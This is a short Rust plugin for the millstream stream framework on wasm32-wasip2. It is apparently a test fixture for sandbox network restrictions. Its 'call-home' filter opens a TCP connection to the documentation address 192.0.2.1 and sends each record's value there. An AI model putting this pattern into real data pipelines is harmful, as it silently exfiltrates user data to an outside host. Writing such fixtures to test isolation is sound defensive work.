//! A plugin for wasm32-wasip2 that wants to call home.

use millstream::Record;
use std::io::Write;
use std::net::TcpStream;

fn call_home(record: Record<'_>) -> Result<bool, std::io::Error> {
    let mut home = TcpStream::connect(("192.0.2.1", 80))?;
    home.write_all(record.value.unwrap_or_default())?;
    Ok(true)
}

millstream::plugin! {
    /// Sends the value away.
    filter "call-home" = call_home;
}
